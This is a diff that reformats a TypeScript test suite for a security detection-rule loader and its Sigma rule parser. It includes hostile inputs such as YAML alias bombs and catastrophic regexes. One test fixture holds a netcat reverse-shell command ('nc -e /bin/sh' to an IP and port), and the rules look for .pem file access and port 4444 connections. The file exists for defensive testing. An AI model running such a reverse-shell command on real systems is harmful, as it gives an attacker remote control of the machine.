@@ -10,7 +10,10 @@ import { describeProblem, fingerprintOf, loadDetections } from './load.ts';
 import { parseDetection } from './parse-detection.ts';
 import { RULE_FILES, TOOLS } from './test-support/arbitrary.ts';
 
-const fixtures = { fires: [{ commandLine: 'sudo id' }, { commandLine: 'sudo ls' }], quiet: [{ commandLine: 'id' }, { commandLine: 'ls' }] }; // prettier-ignore
+const fixtures = {
+  fires: [{ commandLine: 'sudo id' }, { commandLine: 'sudo ls' }],
+  quiet: [{ commandLine: 'id' }, { commandLine: 'ls' }],
+};
 const sudo = { ...RULE_FILES.sudo, fixtures };
 const text = stringify(sudo);
 
@@ -41,18 +44,41 @@ describe('a detection file', () => {
     { name: 'a tag of its own', written: text.replace('title: ', 'title: !!js/function '), says: /^x\.yaml:1: .*tag/ },
     { name: 'two documents', written: `${text}---\n${text}`, says: /^x\.yaml:\d+: .*document/ },
     { name: 'a key twice', written: `${text}\nseverity: low\n`, says: /unique/ },
-    { name: 'aliases that blow up', written: `a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [${'*a, '.repeat(30)}]\nc: [${'*b, '.repeat(30)}]\n`, says: /alias/i },
+    {
+      name: 'aliases that blow up',
+      written: `a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [${'*a, '.repeat(30)}]\nc: [${'*b, '.repeat(30)}]\n`,
+      says: /alias/i,
+    },
     { name: 'a misspelt key', written: text.replace('severity: medium', 'sevrity: medium'), says: /severity|sevrity/ },
-    { name: 'a bad value, by its line', written: text.replace('severity: medium', 'severity: terrible'), says: new RegExp(`^x\\.yaml:${lineOf('severity')}: severity`) },
-    { name: 'a bad selection, by its line', written: text.replace('commandLine: "*sudo*"', 'commandLine|nosuch: "*sudo*"'), says: new RegExp(`^x\\.yaml:${lineOf('commandLine: "')}: sigma\\.selection`) },
-    { name: 'a misspelt field', written: text.replace('commandLine: "*sudo*"', 'comandLine: "*sudo*"'), says: /comandLine/ },
-    { name: 'expressions that blow up, by their line', written: text.replace('commandLine: "*sudo*"', `commandLine|re: [${Array.from({ length: 4000 }, (_, i) => `"(a|b|c|d){1,200}z${i}"`).join(', ')}]`), says: new RegExp(`^x\\.yaml:${lineOf('commandLine: "')}: sigma\\.selection\\.commandLine\\|re: .*parts in all$`) },
+    {
+      name: 'a bad value, by its line',
+      written: text.replace('severity: medium', 'severity: terrible'),
+      says: new RegExp(`^x\\.yaml:${lineOf('severity')}: severity`),
+    },
+    {
+      name: 'a bad selection, by its line',
+      written: text.replace('commandLine: "*sudo*"', 'commandLine|nosuch: "*sudo*"'),
+      says: new RegExp(`^x\\.yaml:${lineOf('commandLine: "')}: sigma\\.selection`),
+    },
+    {
+      name: 'a misspelt field',
+      written: text.replace('commandLine: "*sudo*"', 'comandLine: "*sudo*"'),
+      says: /comandLine/,
+    },
+    {
+      name: 'expressions that blow up, by their line',
+      written: text.replace(
+        'commandLine: "*sudo*"',
+        `commandLine|re: [${Array.from({ length: 4000 }, (_, i) => `"(a|b|c|d){1,200}z${i}"`).join(', ')}]`,
+      ),
+      says: new RegExp(`^x\\.yaml:${lineOf('commandLine: "')}: sigma\\.selection\\.commandLine\\|re: .*parts in all$`),
+    },
     { name: 'a list', written: '- 1\n- 2\n', says: /^x\.yaml:1: / },
     { name: 'nothing', written: '', says: /^x\.yaml:1: / },
     { name: 'nesting without end', written: '['.repeat(100_000), says: /^x\.yaml:\d+: / },
   ])('refuses $name', ({ written, says }) => {
     expect(problemOf(written)).toMatch(says);
-  }); // prettier-ignore
+  });
 
   it('has a bad fixture told by its line', () => {
     const broken = stringify({
@@ -90,7 +116,12 @@ describe('a Sigma file, unchanged', () => {
   it('is a rule like any other', () => {
     const parsed = parseDetection(SIGMA, 'nc.yml', TOOLS);
     if ('reason' in parsed) throw new Error(parsed.reason);
-    expect(parsed.detection).toMatchObject({ id: '7f734ed0-4f47-46c0-837f-6ee62505abd9', severity: 'high', attack: ['T1059.004'], requires: ['commandLine'] }); // prettier-ignore
+    expect(parsed.detection).toMatchObject({
+      id: '7f734ed0-4f47-46c0-837f-6ee62505abd9',
+      severity: 'high',
+      attack: ['T1059.004'],
+      requires: ['commandLine'],
+    });
     const alerts = (commandLine: string) =>
       backtest([eventsOf(Fixture.parse({ commandLine }), TOOLS.hash128)], { ...TOOLS, rules: [parsed.rule] });
     expect(alerts('nc -e /bin/sh 10.0.0.1 4444')).toMatchObject([{ title: 'Netcat With Execution' }]);
@@ -105,11 +136,36 @@ describe('a Sigma file, unchanged', () => {
   });
 
   it.each([
-    { name: 'a file rule', category: 'file_event', selection: "{ TargetFilename|endswith: '.pem' }", requires: [['filePath', 'commandLine']] },
-    { name: 'a network rule', category: 'network_connection', selection: '{ DestinationPort: 4444, networkProtocol: tcp }', requires: [['networkHost', 'commandLine'], 'networkProtocol'] },
-    { name: 'a rule for names looked up', category: 'dns_query', selection: '{ QueryName: x.example }', requires: [['networkHost', 'commandLine']] },
-    { name: 'alternatives', category: 'file_delete', selection: '[{ filePath: /x }, { toolName: rm }]', requires: [['filePath', 'commandLine']] },
-    { name: 'what has to be absent', category: 'process_creation', selection: '{ CommandLine: x, cwd: null }', requires: ['commandLine'] },
+    {
+      name: 'a file rule',
+      category: 'file_event',
+      selection: "{ TargetFilename|endswith: '.pem' }",
+      requires: [['filePath', 'commandLine']],
+    },
+    {
+      name: 'a network rule',
+      category: 'network_connection',
+      selection: '{ DestinationPort: 4444, networkProtocol: tcp }',
+      requires: [['networkHost', 'commandLine'], 'networkProtocol'],
+    },
+    {
+      name: 'a rule for names looked up',
+      category: 'dns_query',
+      selection: '{ QueryName: x.example }',
+      requires: [['networkHost', 'commandLine']],
+    },
+    {
+      name: 'alternatives',
+      category: 'file_delete',
+      selection: '[{ filePath: /x }, { toolName: rm }]',
+      requires: [['filePath', 'commandLine']],
+    },
+    {
+      name: 'what has to be absent',
+      category: 'process_creation',
+      selection: '{ CommandLine: x, cwd: null }',
+      requires: ['commandLine'],
+    },
   ])('requires what its events must have: $name', ({ category, selection, requires }) => {
     const written = SIGMA.replace('process_creation', category).replace(
       /selection:\n.*\n.*\n.*selection$/m,
@@ -118,16 +174,28 @@ describe('a Sigma file, unchanged', () => {
     const parsed = parseDetection(written, 'x.yml', TOOLS);
     if ('reason' in parsed) throw new Error(parsed.reason);
     expect(parsed.detection.requires).toEqual(requires);
-  }); // prettier-ignore
+  });
 
   it.each([
-    { name: 'a source that agents do not have', written: SIGMA.replace('process_creation', 'registry_set'), says: /^x\.yaml:9: logsource\.category/ },
+    {
+      name: 'a source that agents do not have',
+      written: SIGMA.replace('process_creation', 'registry_set'),
+      says: /^x\.yaml:9: logsource\.category/,
+    },
     { name: 'a correlation', written: `${SIGMA}\ncorrelation: { type: event_count }\n`, says: /correlation/ },
-    { name: 'a modifier that is not Sigma', written: SIGMA.replace('Image|endswith', 'Image|endsin'), says: /^x\.yaml:12: / },
-    { name: 'a status that is not Sigma', written: SIGMA.replace('status: test', 'status: unheard'), says: /^x\.yaml:4: status/ },
+    {
+      name: 'a modifier that is not Sigma',
+      written: SIGMA.replace('Image|endswith', 'Image|endsin'),
+      says: /^x\.yaml:12: /,
+    },
+    {
+      name: 'a status that is not Sigma',
+      written: SIGMA.replace('status: test', 'status: unheard'),
+      says: /^x\.yaml:4: status/,
+    },
   ])('is refused for $name', ({ written, says }) => {
     expect(problemOf(written)).toMatch(says);
-  }); // prettier-ignore
+  });
 });
 
 describe('a folder of detections', () => {
